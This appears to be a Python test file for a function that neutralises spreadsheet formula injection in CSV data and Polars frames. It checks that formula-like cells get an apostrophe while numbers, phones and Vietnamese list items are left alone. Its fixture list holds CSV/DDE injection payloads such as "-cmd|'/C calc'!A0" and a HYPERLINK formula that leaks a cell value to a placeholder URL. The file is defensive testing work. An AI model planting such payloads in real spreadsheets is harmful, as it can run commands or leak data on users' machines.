"""What would be calculated gets an apostrophe; numbers, dates, phones and list items stay as they are."""

from __future__ import annotations

import csv
import io
import re

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from harvesters.tabular.neutralise import MARK, is_formula, neutral, neutral_csv, neutral_frame, neutral_text

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x?"&A1,"y")',
    "+1+1",
    "+A1",
    "-A1",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "- cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠SUM(A1)",
    "−A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\tabc",
    "=-5",
    "- SUM(A1:A9)",
    "- SUM (A1)",
    "- A1:B2",
    "-5,2+A1",
    "+84 912 345 678*A1",
]
HARMLESS = [
    "",
    "abc",
    "-5",
    "-5,2",
    "- 5",
    "+5",
    "-1.234.567,89",
    "-1 234,5",
    "−3",
    "-12 %",
    "-1.5E-3",
    "-2024",
    "- 01/02/2024",
    "-2024-05-01",
    "+84 912 345 678",
    "+84-277-3851234",
    "+84(277)3851234",
    "-",
    "--",
    "- -",
    "–",
    "…",
    "+",
    "- Lúa đông xuân",
    "- Lúa đông xuân (nghìn ha)",
    "+ Trong đó: nữ",
    "a=1",
    "Nguyễn Văn A",
    "  dòng thụt vào",
    "28249",
    "Xã Tân Hồng - Huyện Tân Hồng",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert is_formula(text)
    assert neutral_text(text) == MARK + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_does_no_harm_stays(text: str) -> None:
    assert not is_formula(text)
    assert neutral_text(text) == text


def test_a_column_is_treated_as_its_texts_are() -> None:
    texts = [*FORMULAS, *HARMLESS]
    frame = pl.DataFrame({"a": texts}).select(neutral(pl.col("a")))
    assert frame["a"].to_list() == [neutral_text(text) for text in texts]


@given(st.text(alphabet="=+-@＝＋－＠\t\r\n A1(),.'|!é", max_size=12))
def test_nothing_that_begins_like_a_formula_can_call(text: str) -> None:
    shown = neutral_text(text)
    bare = shown.lstrip(" \t\r\n\u00a0")
    if bare[:1] in ("=", "@", "＝", "＠"):
        raise AssertionError(shown)
    if bare[:1] in ("+", "-", "＋", "－"):
        assert "|" not in bare
        assert "!" not in bare
        assert not re.search(r"(?<!\w)[A-Za-z]\w*\s*\(", bare)


@given(st.decimals(allow_nan=False, allow_infinity=False, places=3), st.sampled_from([".", ","]))
def test_numbers_are_never_touched(number: object, mark: str) -> None:
    text = str(number).replace(".", mark)
    assert neutral_text(text) == text


def test_a_frame_is_touched_only_where_it_must_be() -> None:
    frame = pl.DataFrame({"a": ["x", "=1"], "b": ["-5", None], "value": ["-1", "=2"]})
    assert neutral_frame(frame, ["a", "b"]).to_dict(as_series=False) == {
        "a": ["x", "'=1"],
        "b": ["-5", None],
        "value": ["-1", "=2"],
    }


CELL = st.text(st.sampled_from("=+-@ \t'\",;\n\r1,5aậ|()"), max_size=12)


@given(st.lists(st.lists(CELL, min_size=2, max_size=3), min_size=1, max_size=6), st.sampled_from(",;\t"))
def test_a_whole_file_is_neutral_cell_by_cell(rows: list[list[str]], delimiter: str) -> None:
    """What `neutral_text` says of each cell, and every other cell as it was."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    text = neutral_csv(buffer.getvalue(), delimiter)
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert read == [[neutral_text(cell) for cell in row] for row in rows]


def test_a_file_without_formulas_is_left_as_it_is() -> None:
    text = 'a,"b ""c""",\n-5.2,"-5,2",""\n+84 912 345 678,- lúa,--\n'
    assert neutral_csv(text) == text
